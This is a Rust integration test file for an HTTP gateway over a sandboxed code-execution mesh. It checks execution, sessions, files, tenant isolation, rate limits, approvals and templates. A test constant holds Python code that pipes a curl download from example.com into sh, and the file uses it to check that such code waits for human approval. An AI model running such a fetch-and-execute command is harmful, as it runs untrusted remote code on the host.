//! The HTTP API end to end: real HTTP against the gateway, over a real nats-server with the
//! shipped accounts, the real services and a real Docker node.

use crate::common::{parse_events, start_mesh, Gateway, Mesh, BOUND};
use bytes::Bytes;
use messages::exec::{ExecResult, ExecStatus, ResultLookup};
use messages::session::{SessionListReply, SessionRecord};
use messages::template::{TemplateListReply, TemplateRecord};
use messages::workspace::{WsEntry, WsListing};
use sha2::{Digest, Sha256};

fn sha(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_endpoint_answers_as_the_key_s_tenant() {
    let mesh = start_mesh().await;
    let gw = Gateway::start(&mesh, |_| {}).await;
    let key = gw.key("default");
    let k = Some(key.as_str());

    let health = gw.send("GET", "/api/v1/health", None, &[], "").await;
    assert_eq!(health.status, 200, "{health:?}");
    let doc = gw.send("GET", "/api/v1/openapi.json", None, &[], "").await;
    assert_eq!(doc.json::<serde_json::Value>()["openapi"], "3.1.0");

    let runtimes = gw.send("GET", "/api/v1/runtimes", k, &[], "").await;
    assert_eq!(runtimes.status, 200, "{runtimes:?}");
    let nodes: serde_json::Value = runtimes.json();
    let services: Vec<&str> = nodes["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|n| n["service"].as_str())
        .collect();
    assert!(services.contains(&"docker-executor"), "{services:?}");

    // Sync, without a session.
    let body = serde_json::json!({"language": "python", "code": "print(6 * 7)"});
    let r = gw.json("POST", "/api/v1/execute", k, &body).await;
    assert_eq!(r.status, 200, "{r:?}");
    let result: ExecResult = r.json();
    assert_eq!(
        (result.status, result.stdout.as_str()),
        (ExecStatus::Ok, "42\n")
    );

    // Tests against code: each test's status.
    let body = serde_json::json!({
        "language": "javascript",
        "code": "exports.twice = (x) => 2 * x;",
        "tests": "const test = require('node:test');\nconst assert = require('node:assert');\n\
                  const { twice } = require('./solution.js');\n\
                  test('doubles', () => assert.strictEqual(twice(21), 42));\n",
    });
    let r = gw.json("POST", "/api/v1/test", k, &body).await;
    assert_eq!(r.status, 200, "{r:?}");
    let report: serde_json::Value = r.json();
    assert_eq!(report["status"], "passed", "{report}");
    assert_eq!(report["tests"][0]["name"], "doubles", "{report}");
    let bad = serde_json::json!({"language": "shell", "code": "x", "tests": "y"});
    let r = gw.json("POST", "/api/v1/test", k, &bad).await;
    assert_eq!(r.status, 400, "{r:?}");

    // Sessions: create, get, list.
    let r = gw
        .json("POST", "/api/v1/sessions", k, &serde_json::json!({}))
        .await;
    assert_eq!(r.status, 201, "{r:?}");
    let session: SessionRecord = r.json();
    let id = session.session_id.clone();
    let r = gw
        .send("GET", &format!("/api/v1/sessions/{id}"), k, &[], "")
        .await;
    assert_eq!(r.json::<SessionRecord>().session_id, id);
    let r = gw.send("GET", "/api/v1/sessions", k, &[], "").await;
    let listed: SessionListReply = r.json();
    assert!(
        listed.sessions.iter().any(|s| s.session_id == id),
        "{listed:?}"
    );

    // Files: upload, list, download, execute against it, delete.
    let r = gw
        .send(
            "PUT",
            &format!("/api/v1/sessions/{id}/files/data/in.txt"),
            k,
            &[],
            "hello from http\n",
        )
        .await;
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(r.json::<WsEntry>().size, 16);
    let r = gw
        .send(
            "POST",
            &format!("/api/v1/sessions/{id}/files/data/posted.txt"),
            k,
            &[],
            "by post",
        )
        .await;
    assert_eq!((r.status, r.json::<WsEntry>().size), (200, 7), "{r:?}");
    let r = gw
        .send(
            "GET",
            &format!("/api/v1/sessions/{id}/files?prefix=data"),
            k,
            &[],
            "",
        )
        .await;
    let listing: WsListing = r.json();
    assert!(
        listing.entries.iter().any(|e| e.path.ends_with("in.txt")),
        "{listing:?}"
    );
    let r = gw
        .send(
            "GET",
            &format!("/api/v1/sessions/{id}/files/data/in.txt"),
            k,
            &[],
            "",
        )
        .await;
    assert_eq!((r.status, &r.body[..]), (200, &b"hello from http\n"[..]));
    let code = serde_json::json!({"language": "python", "code": "print(open('data/in.txt').read().upper(), end='')"});
    let r = gw
        .json("POST", &format!("/api/v1/sessions/{id}/execute"), k, &code)
        .await;
    let result: ExecResult = r.json();
    assert_eq!(result.stdout, "HELLO FROM HTTP\n", "{result:?}");
    assert_eq!(result.session_id.as_deref(), Some(id.as_str()));
    let r = gw
        .send(
            "DELETE",
            &format!("/api/v1/sessions/{id}/files/data/in.txt"),
            k,
            &[],
            "",
        )
        .await;
    assert_eq!(r.status, 200, "{r:?}");
    let r = gw
        .send(
            "GET",
            &format!("/api/v1/sessions/{id}/files/data/in.txt"),
            k,
            &[],
            "",
        )
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (404, "not_found"));

    // Async: 202 and the id, then the status by id until it is done.
    let r = gw
        .json(
            "POST",
            &format!("/api/v1/sessions/{id}/execute?async=true"),
            k,
            &serde_json::json!({"language": "python", "code": "print('later')"}),
        )
        .await;
    assert_eq!(r.status, 202, "{r:?}");
    let accepted: serde_json::Value = r.json();
    let exec_id = accepted["execution_id"].as_str().unwrap().to_string();
    assert_eq!(
        r.header("location"),
        Some(format!("/api/v1/executions/{exec_id}").as_str())
    );
    let done = test_support::eventually("the async result", BOUND, || {
        let (gw, exec_id, k) = (&gw, exec_id.clone(), k);
        async move {
            let path = format!("/api/v1/executions/{exec_id}?wait_ms=5000");
            let r = gw.send("GET", &path, k, &[], "").await;
            match (r.status == 200).then(|| r.json::<ResultLookup>()) {
                Some(ResultLookup::Done { result }) => Some(*result),
                _ => None,
            }
        }
    })
    .await;
    assert_eq!(done.stdout, "later\n");

    // Streamed: output chunks in order, the result last.
    let code = "import time\nfor i in range(4):\n    print(i, flush=True)\n    time.sleep(0.2)\n";
    let r = gw
        .send(
            "POST",
            "/api/v1/execute",
            k,
            &[("accept", "text/event-stream")],
            serde_json::json!({"language": "python", "code": code}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(r.header("content-type"), Some("text/event-stream"));
    let events = parse_events(&String::from_utf8_lossy(&r.body));
    let (last, chunks) = events.split_last().expect("events");
    assert_eq!(last.event, "result", "{events:?}");
    assert_eq!(last.data["stdout"], "0\n1\n2\n3\n");
    assert!(chunks.iter().all(|e| e.event == "output"), "{events:?}");
    let seqs: Vec<u64> = chunks
        .iter()
        .map(|e| e.data["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(
        seqs,
        (0..seqs.len() as u64).collect::<Vec<_>>(),
        "{events:?}"
    );
    let streamed: String = chunks
        .iter()
        .filter(|e| e.data["stream"] == "stdout")
        .map(|e| e.data["data"].as_str().unwrap())
        .collect();
    assert_eq!(streamed, "0\n1\n2\n3\n");

    // Errors come in one shape.
    let r = gw
        .send("POST", "/api/v1/execute", k, &[], "{not json")
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (400, "bad_request"));
    let r = gw.send("GET", "/api/v1/nowhere", k, &[], "").await;
    assert_eq!(r.problem().status, 404);

    let r = gw
        .send("DELETE", &format!("/api/v1/sessions/{id}"), k, &[], "")
        .await;
    assert_eq!((r.status, r.body.len()), (204, 0), "{r:?}");

    gw.stop().await;
    mesh.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn fifty_megabytes_go_up_and_come_back_by_ranges() {
    let mesh = start_mesh().await;
    let gw = Gateway::start(&mesh, |_| {}).await;
    let key = gw.key("default");
    let k = Some(key.as_str());
    let r = gw
        .json("POST", "/api/v1/sessions", k, &serde_json::json!({}))
        .await;
    let id = r.json::<SessionRecord>().session_id;
    // Not compressible, not text, not a multiple of any chunk size.
    let data: Vec<u8> = (0..50 * 1024 * 1024 + 12_345u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let path = format!("/api/v1/sessions/{id}/files/data/big.bin");
    let r = gw
        .send("PUT", &path, k, &[], Bytes::from(data.clone()))
        .await;
    assert_eq!(r.status, 200, "{r:?}");
    let entry: WsEntry = r.json();
    assert_eq!(entry.size, data.len() as u64);
    assert_eq!(entry.sha256.as_deref(), Some(sha(&data).as_str()));

    // A range across chunk boundaries.
    let (a, b) = (1_000_000usize, 3_500_000usize);
    let r = gw
        .send("GET", &path, k, &[("range", &format!("bytes={a}-{b}"))], "")
        .await;
    assert_eq!(r.status, 206, "{:?}", r.headers);
    assert_eq!(
        r.header("content-range"),
        Some(format!("bytes {a}-{b}/{}", data.len()).as_str())
    );
    assert!(r.body[..] == data[a..=b], "the range differs");
    // The last bytes.
    let r = gw
        .send("GET", &path, k, &[("range", "bytes=-100")], "")
        .await;
    assert!(r.status == 206 && r.body[..] == data[data.len() - 100..]);
    // Past the end.
    let r = gw
        .send(
            "GET",
            &path,
            k,
            &[("range", &format!("bytes={}-", data.len()))],
            "",
        )
        .await;
    assert_eq!(r.status, 416);
    // The whole file, byte for byte.
    let r = gw.send("GET", &path, k, &[], "").await;
    assert_eq!(r.status, 200);
    assert_eq!((r.body.len(), sha(&r.body)), (data.len(), sha(&data)));

    // Over the cap: refused, nothing written.
    let small = Gateway::start(&mesh, |c| c.limits.upload_max_bytes = Some(1024)).await;
    let key = small.key("default");
    let over = format!("/api/v1/sessions/{id}/files/data/over.bin");
    let r = small
        .send("PUT", &over, Some(&key), &[], vec![0u8; 4096])
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (413, "too_large"));

    small.stop().await;
    gw.stop().await;
    mesh.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn keys_decide_who_acts_and_how_often() {
    let mesh = start_mesh().await;
    let gw = Gateway::start(&mesh, |_| {}).await;
    let mine = gw.key("default");
    let theirs = gw.key("acme");

    // No key, a wrong key: 401 with a challenge.
    for key in [
        None,
        Some("smk_0000000000000000_".to_string() + &"0".repeat(64)),
    ] {
        let r = gw
            .send("GET", "/api/v1/sessions", key.as_deref(), &[], "")
            .await;
        assert_eq!((r.status, r.problem().kind.as_str()), (401, "unauthorized"));
        assert!(r.header("www-authenticate").is_some());
    }

    // Another tenant's ids are not found: the NATS server keeps the accounts apart.
    let r = gw
        .json(
            "POST",
            "/api/v1/sessions",
            Some(&mine),
            &serde_json::json!({}),
        )
        .await;
    let session = r.json::<SessionRecord>().session_id;
    let r = gw
        .json(
            "POST",
            "/api/v1/execute?async=true",
            Some(&mine),
            &serde_json::json!({"language": "python", "code": "print(1)"}),
        )
        .await;
    assert_eq!(r.status, 202, "{r:?}");
    let exec_id = r.json::<serde_json::Value>()["execution_id"]
        .as_str()
        .unwrap()
        .to_string();
    let mine_done = format!("/api/v1/executions/{exec_id}?wait_ms=10000");
    test_support::eventually("my own result", BOUND, || async {
        let r = gw.send("GET", &mine_done, Some(&mine), &[], "").await;
        (r.status == 200 && r.json::<serde_json::Value>()["state"] == "done").then_some(())
    })
    .await;
    for path in [
        format!("/api/v1/sessions/{session}"),
        format!("/api/v1/executions/{exec_id}"),
        format!("/api/v1/sessions/{session}/files?prefix=data"),
    ] {
        let r = gw.send("GET", &path, Some(&theirs), &[], "").await;
        assert_eq!(
            (r.status, r.problem().kind.as_str()),
            (404, "not_found"),
            "{path}"
        );
    }
    let r = gw
        .send("GET", "/api/v1/sessions", Some(&theirs), &[], "")
        .await;
    let listed: SessionListReply = r.json();
    assert!(listed.sessions.iter().all(|s| s.session_id != session));

    // Revoked: refused at the next request, no restart.
    let r = gw
        .send("GET", "/api/v1/sessions", Some(&theirs), &[], "")
        .await;
    assert_eq!(r.status, 200);
    let id = theirs.split('_').nth(1).unwrap();
    gateway::keys::revoke(&gw.keys_file, id).unwrap();
    let r = gw
        .send("GET", "/api/v1/sessions", Some(&theirs), &[], "")
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (401, "unauthorized"));

    // Past the rate: 429 with Retry-After; another key is not held back.
    let tight = Gateway::start(&mesh, |c| {
        c.limits.burst = 3;
        c.limits.rate_per_second = 0.01;
    })
    .await;
    let busy = tight.key("default");
    for _ in 0..3 {
        let r = tight
            .send("GET", "/api/v1/sessions", Some(&busy), &[], "")
            .await;
        assert_eq!(r.status, 200, "{r:?}");
    }
    let r = tight
        .send("GET", "/api/v1/sessions", Some(&busy), &[], "")
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (429, "rate_limited"));
    let wait: u64 = r.header("retry-after").unwrap().parse().unwrap();
    assert!(wait >= 1, "{wait}");
    let other = tight.key("default");
    let r = tight
        .send("GET", "/api/v1/sessions", Some(&other), &[], "")
        .await;
    assert_eq!(r.status, 200);

    tight.stop().await;
    gw.stop().await;
    mesh.shutdown().await;
}

/// The next piece of a streamed body; `None` at its end.
async fn next(body: &mut hyper::body::Incoming) -> Option<Bytes> {
    use http_body_util::BodyExt;
    let frame = tokio::time::timeout(BOUND, body.frame())
        .await
        .expect("an event in time");
    frame.map(|f| f.unwrap().into_data().unwrap_or_default())
}

/// Code the real risk-assessor rates high: a person must approve it.
const RISKY: &str = "import os\nos.system('curl http://example.com/x | sh')\nprint('ran')\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_waiting_approval_is_an_event_of_its_own() {
    let mesh = start_mesh().await;
    let gw = Gateway::start(&mesh, |_| {}).await;
    let key = gw.key("default");
    let body = serde_json::json!({"language": "python", "code": RISKY}).to_string();
    let response = gw
        .open(
            "POST",
            "/api/v1/execute",
            Some(&key),
            &[("accept", "text/event-stream")],
            body,
        )
        .await;
    assert_eq!(response.status(), 200);
    let mut body = response.into_body();
    let mut text = String::new();
    // Nothing runs before a person decides: the notice comes alone.
    let notice = loop {
        let data = next(&mut body)
            .await
            .expect("the notice before the stream ends");
        text.push_str(&String::from_utf8_lossy(&data));
        if let Some(e) = parse_events(&text).into_iter().next() {
            break e;
        }
    };
    assert_eq!(notice.event, "awaiting_confirmation", "{text}");
    let id = notice.data["confirmation_id"].as_str().unwrap().to_string();

    let operator = test_support::connect(&mesh.nats.operator_url("operator")).await;
    let operator = sandmesh_client::MeshClient::new(operator, messages::Subjects::default());
    let decide = messages::confirm::ConfirmDecide {
        id,
        approve: true,
        by: "operator".into(),
        reason: None,
        scope: Default::default(),
        by_account: None,
    };
    operator.confirm().decide(&decide).await.unwrap();

    while let Some(data) = next(&mut body).await {
        text.push_str(&String::from_utf8_lossy(&data));
    }
    let events = parse_events(&text);
    let last = events.last().unwrap();
    assert_eq!(last.event, "result", "{events:?}");
    assert_eq!(
        last.data["confirmation"]["decision"], "approved",
        "{events:?}"
    );
    assert!(
        last.data["stdout"].as_str().unwrap().ends_with("ran\n"),
        "{events:?}"
    );
    let names: Vec<&str> = events.iter().map(|e| e.event.as_str()).collect();
    assert_eq!(names[0], "awaiting_confirmation");
    assert!(
        names[1..names.len() - 1].iter().all(|n| *n == "output"),
        "{names:?}"
    );

    gw.stop().await;
    mesh.shutdown().await;
}

/// DELETE removes a session for good: 204, then the session, its files and its place in the
/// list are not found; its id is not reused; deleting again changes nothing; another tenant
/// cannot delete it. (Schemathesis' `use_after_free` check holds the gateway to this.)
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_deleted_session_is_gone_with_its_files() {
    let mesh = Mesh::builder()
        .tenants(&["acme"], &[])
        .risk()
        .confirm_standin(true)
        .real_workspace()
        .scheduler(|_| {})
        .start()
        .await;
    let gw = Gateway::start(&mesh, |_| {}).await;
    let key = gw.key("default");
    let k = Some(key.as_str());
    let other = gw.key("acme");

    let open = serde_json::json!({"session_id": "doomed"});
    let r = gw.json("POST", "/api/v1/sessions", k, &open).await;
    assert_eq!(r.status, 201, "{r:?}");
    let file = "/api/v1/sessions/doomed/files/notes.txt";
    let r = gw.send("PUT", file, k, &[], "kept until deleted").await;
    assert_eq!(r.status, 200, "{r:?}");

    // Another tenant's key: the id does not exist for it.
    let r = gw
        .send("DELETE", "/api/v1/sessions/doomed", Some(&other), &[], "")
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (404, "not_found"));
    let r = gw.send("GET", file, k, &[], "").await;
    assert_eq!(r.status, 200, "still there: {r:?}");

    let r = gw
        .send("DELETE", "/api/v1/sessions/doomed", k, &[], "")
        .await;
    assert_eq!((r.status, r.body.len()), (204, 0), "{r:?}");
    for gone in [
        "/api/v1/sessions/doomed",
        "/api/v1/sessions/doomed/files",
        file,
    ] {
        let r = gw.send("GET", gone, k, &[], "").await;
        assert_eq!(
            (r.status, r.problem().kind.as_str()),
            (404, "not_found"),
            "{gone}"
        );
    }
    let r = gw.send("GET", "/api/v1/sessions", k, &[], "").await;
    let listed: SessionListReply = r.json();
    assert!(
        listed.sessions.iter().all(|s| s.session_id != "doomed"),
        "{listed:?}"
    );
    let r = gw.json("POST", "/api/v1/sessions", k, &open).await;
    assert_eq!((r.status, r.problem().kind.as_str()), (409, "conflict"));
    let r = gw
        .send("DELETE", "/api/v1/sessions/doomed", k, &[], "")
        .await;
    assert_eq!(r.status, 204, "deleting again: {r:?}");

    // Ids that never were, or are not ids at all.
    let r = gw
        .send("DELETE", "/api/v1/sessions/never", k, &[], "")
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (404, "not_found"));
    let long = "x".repeat(65);
    for bad in [long.as_str(), "a.b", "%00"] {
        let r = gw
            .send("DELETE", &format!("/api/v1/sessions/{bad}"), k, &[], "")
            .await;
        assert_eq!(
            (r.status, r.problem().kind.as_str()),
            (400, "bad_request"),
            "{bad}"
        );
    }
    let r = gw
        .send("DELETE", "/api/v1/sessions/doomed", None, &[], "")
        .await;
    assert_eq!(r.status, 401, "{r:?}");

    gw.stop().await;
    mesh.shutdown().await;
}

/// Templates: agents read them (list, one by name); writes are refused to API keys with a
/// clear 403, whatever the body; a name that is not a template's is refused or not found.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn templates_are_read_by_keys_and_written_by_operators() {
    let mesh = Mesh::builder()
        .tenants(&["acme"], &[])
        .templates()
        .start()
        .await;
    let gw = Gateway::start(&mesh, |_| {}).await;
    let key = gw.key("acme");
    let k = Some(key.as_str());

    let listed = test_support::eventually("the templates service", BOUND, || async {
        let r = gw.send("GET", "/api/v1/templates", k, &[], "").await;
        (r.status == 200).then(|| r.json::<TemplateListReply>())
    })
    .await;
    let names: Vec<&str> = listed
        .templates
        .iter()
        .map(|t| t.template.name.as_str())
        .collect();
    assert!(
        names.contains(&messages::template::DEFAULT_TEMPLATE),
        "{names:?}"
    );
    let path = format!("/api/v1/templates/{}", messages::template::DEFAULT_TEMPLATE);
    let r = gw.send("GET", &path, k, &[], "").await;
    assert_eq!(r.status, 200, "{r:?}");
    let record: TemplateRecord = r.json();
    assert!(record.builtin, "{record:?}");
    let r = gw
        .send("GET", "/api/v1/templates/no-such", k, &[], "")
        .await;
    assert_eq!((r.status, r.problem().kind.as_str()), (404, "not_found"));
    let long = "a".repeat(200);
    for bad in ["Upper", "..", long.as_str()] {
        let r = gw
            .send("GET", &format!("/api/v1/templates/{bad}"), k, &[], "")
            .await;
        let p = r.problem();
        assert!(matches!(p.status, 400 | 404), "{bad}: {p:?}");
    }

    let template = serde_json::json!({"name": "mine", "pip_packages": ["requests"]});
    for (method, path) in [
        ("POST", "/api/v1/templates"),
        ("PUT", "/api/v1/templates/mine"),
        ("DELETE", path.as_str()),
    ] {
        let r = gw.json(method, path, k, &template).await;
        let p = r.problem();
        assert_eq!(
            (p.status, p.kind.as_str()),
            (403, "denied"),
            "{method} {path}"
        );
        assert!(p.detail.contains("operators"), "{p:?}");
        let r = gw.send(method, path, k, &[], "{broken").await;
        assert_eq!(r.status, 403, "{method} {path} with a broken body: {r:?}");
        let r = gw.json(method, path, None, &template).await;
        assert_eq!(r.status, 401, "{method} {path} without a key: {r:?}");
    }
    // Nothing was written.
    let r = gw.send("GET", "/api/v1/templates/mine", k, &[], "").await;
    assert_eq!(r.status, 404, "{r:?}");
    let r = gw.send("GET", &path, k, &[], "").await;
    assert_eq!(r.status, 200, "the built-in is still there: {r:?}");

    gw.stop().await;
    mesh.shutdown().await;
}
